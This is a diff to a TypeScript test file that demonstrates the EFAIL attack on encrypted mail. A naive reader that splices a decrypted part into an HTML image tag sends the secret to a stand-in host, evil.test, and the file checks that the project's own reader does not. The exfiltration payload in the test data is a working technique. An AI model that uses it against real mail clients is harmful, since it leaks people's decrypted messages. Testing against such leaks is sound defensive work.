@@ -6,7 +6,6 @@ import { fromParts, partTypes, readSealedMail, writeSubmission } from "../../src
 import {
   type Mode,
   openAtServer,
-  openPost,
   prepareReseal,
   resealFor,
   type SealedMessage,
@@ -14,7 +13,7 @@ import {
 } from "../../src/protocol/index.js";
 import { aliceSeals, type Cast, keysOf, makeCast, saysAlice, serverContext } from "../protocol/people.js";
 import { bytes } from "./forge.js";
-import { quoteAnywhere, sealedAnywhere } from "./naive/naive-mail.js";
+import { onePage, quoteAnywhere, sealedAnywhere } from "./naive/naive-mail.js";
 import { roster } from "./naive/naive-server.js";
 
 let cast: Cast;
@@ -72,16 +71,17 @@ describe("EFAIL: what is opened is put between an image's quotes, so that render
   const before = '<img src="https://evil.test/?';
   const after = '">';
 
+  const raw = () =>
+    mail("multipart/mixed", [part("text/html", before), key(), body(), part("text/html", after)]);
+
   test("a reader that joins the opened part with its neighbours gives the secret away", async () => {
-    const opened = await openPost(sealed, keysOf(cast, cast.bob), saysAlice(cast));
-    if (opened.kind !== "opened") throw new Error("not opened");
-    const joined = before + new TextDecoder().decode(opened.payload) + after;
-    expect(joined).toBe('<img src="https://evil.test/?the secret">');
+    const page = await onePage(raw(), keysOf(cast, cast.bob), saysAlice(cast));
+    // what a program fetches to draw the image
+    expect(/src="([^"]*)"/.exec(page)?.[1]).toBe("https://evil.test/?the secret");
   });
 
   test("ours hands out the sealed message and nothing that stood around it", async () => {
-    const raw = mail("multipart/mixed", [part("text/html", before), key(), body(), part("text/html", after)]);
-    const read = await readSealedMail(raw);
+    const read = await readSealedMail(raw());
     expect(read).toEqual({
       kind: "sealed",
       sealed,
